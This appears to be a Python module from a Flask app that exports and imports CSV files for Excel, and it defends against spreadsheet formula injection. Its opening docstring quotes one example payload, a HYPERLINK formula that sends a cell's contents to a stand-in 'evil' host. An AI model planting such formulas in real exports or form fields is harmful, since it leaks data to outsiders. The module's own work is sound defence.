"""CSV files for Excel: every export goes through here.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a
spreadsheet, so anyone who can type into a public form could plant
`=HYPERLINK("http://evil/?"&C2)` in a coordinator's export. Following OWASP's rule, such a
cell is written with a leading apostrophe, which spreadsheets show as text and do not run;
the import takes the apostrophe off again, so an exported file round-trips.
"""
from __future__ import annotations

import codecs
import csv
import io
from typing import IO, Iterable, Iterator

from flask import Response, stream_with_context

from app.errors import InvalidInput
from app.i18n import gettext as _
from app.site import has_control_characters

# Full-width forms too: some spreadsheets turn them into the ASCII operator.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BOM = "\ufeff"


def neutralise(value) -> str:
    """The cell's text, made inert when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


def restore(text: str) -> str:
    """Undo `neutralise` on a cell read from a file this app exported."""
    if len(text) > 1 and text[0] == "'" and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


def control_problem(header: str, cell: str) -> str:
    """Why a cell read from a file cannot be kept ("" when it can): it holds control
    characters (NUL, escapes…), which nobody types and at which a database would cut the
    text short. Line breaks and tabs are kept (a note may have them)."""
    if has_control_characters(cell, multiline=True):
        return _("%(col)sに使えない文字（制御文字）が含まれています。", col=header)
    return ""


def csv_chunks(header: Iterable, rows: Iterable[Iterable], every: int = 200) -> Iterator[str]:
    """CSV text in chunks (UTF-8 BOM first, CRLF lines, as Excel in Japan expects), every
    cell neutralised. `rows` may be a generator that reads the database lazily."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write(BOM)
    writer.writerow([neutralise(cell) for cell in header])
    for n, row in enumerate(rows, start=1):
        writer.writerow([neutralise(cell) for cell in row])
        if n % every == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def csv_response(header: Iterable, rows: Iterable[Iterable], filename: str) -> Response:
    """A streamed CSV download (personal data: never stored by a cache)."""
    response = Response(stream_with_context(csv_chunks(header, rows)),
                        content_type="text/csv; charset=utf-8")
    response.headers["Content-Disposition"] = f"attachment; filename={filename}"
    response.headers["Cache-Control"] = "no-store"
    return response


ENCODING_NAMES = {"utf-8-sig": "UTF-8", "cp932": "Shift_JIS（Windows / CP932）"}


def _refuse_unless_csv(head: bytes) -> None:
    """Raise InvalidInput when the start of an upload shows it is not a CSV: an Excel
    workbook (a zip), a PDF, text saved as UTF-16 (Excel's 「Unicode テキスト」), or bytes
    of which many are NUL (a binary file). A stray NUL in a text is left to the checks of
    the row it is in, which name its line and column."""
    head = head[:4096]
    if head.startswith((b"\xff\xfe", b"\xfe\xff")):
        raise InvalidInput(_("UTF-16（Unicode テキスト）のファイルは読み込めません。Excelで「CSV UTF-8（コンマ区切り）」として保存したファイルを選んでください。"),
                           field="file")
    if head.startswith((b"PK\x03\x04", b"%PDF")) or head.count(b"\x00") * 20 > len(head):
        raise InvalidInput(_("CSVファイルではないようです。Excelで「CSV（コンマ区切り）」として保存したファイルを選んでください。"),
                           field="file")


def decode(raw: bytes) -> tuple[str, str]:
    """Text and encoding name of an uploaded CSV: UTF-8 (BOM or not), else Shift_JIS/CP932."""
    _refuse_unless_csv(raw)
    for encoding in ("utf-8-sig", "cp932"):
        try:
            return raw.decode(encoding), encoding
        except UnicodeDecodeError:
            continue
    raise InvalidInput(_("文字コードを読み取れませんでした。UTF-8 か Shift_JIS の CSV を選んでください。"),
                       field="file")


def _decodes(stream: IO[bytes], encoding: str, block: int) -> bool:
    """Whether the whole stream decodes, read a block at a time (memory stays flat)."""
    stream.seek(0)
    decoder = codecs.getincrementaldecoder(encoding)()
    try:
        while chunk := stream.read(block):
            decoder.decode(chunk)
        decoder.decode(b"", final=True)
    except UnicodeDecodeError:
        return False
    return True


def open_text(stream: IO[bytes], block: int = 1 << 20) -> tuple[IO[str], str]:
    """An uploaded CSV as a text stream and its encoding name, like `decode` but without
    holding the file in memory: the encoding is found by one pass over the (seekable) upload,
    then the text is read as it is needed. Raises InvalidInput for an empty file, one that is
    not a CSV, or one in neither UTF-8 nor Shift_JIS/CP932."""
    stream.seek(0)
    head = stream.read(4096)
    if not head:
        raise InvalidInput(_("ファイルが空です。"), field="file")
    _refuse_unless_csv(head)
    for encoding in ("utf-8-sig", "cp932"):
        if _decodes(stream, encoding, block):
            stream.seek(0)
            return (io.TextIOWrapper(io.BufferedReader(_Unclosed(stream)), encoding=encoding,
                                     newline=""), encoding)
    raise InvalidInput(_("文字コードを読み取れませんでした。UTF-8 か Shift_JIS の CSV を選んでください。"),
                       field="file")


class _Unclosed(io.RawIOBase):
    """The upload seen through a text reader that must not close it (the caller owns it)."""

    def __init__(self, stream: IO[bytes]):
        self._stream = stream

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        data = self._stream.read(len(buffer))
        buffer[:len(data)] = data
        return len(data)
